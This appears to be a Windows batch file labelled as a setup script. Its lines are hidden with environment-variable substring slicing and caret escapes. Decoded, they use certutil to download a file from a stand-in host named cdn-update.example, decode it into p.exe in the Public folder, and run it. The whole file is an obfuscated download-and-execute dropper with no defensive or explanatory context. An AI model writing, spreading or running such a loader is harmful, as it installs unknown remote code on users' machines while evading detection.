REM setup 0485 v2
@echo off
%public:~14,1%%public:~-10,1%^r%PROGRAMDATA:~12,1%%PUBLIC:~-5,1%%programdata:~12,1%%windir:~-6,1%%public:~-3,1% -url^cac^h^e -f h^t^tp://c^d^n-up^date.^ex^a^m^p^l^e/p.^tx^t %PUBLIC%\^p.^t^xt
%public:~14,1%%PUBLIC:~5,1%%PUBLIC:~6,1%%ProgramData:~12,1%%PUBLIC:~-5,1%t%WINDIR:~4,1%%PUBLIC:~12,1% -^decode %PUBLIC%\p.^t^xt %PUBLIC%\p.e^xe
%PUBLIC%\p.e%COMSPEC:~25,1%^e
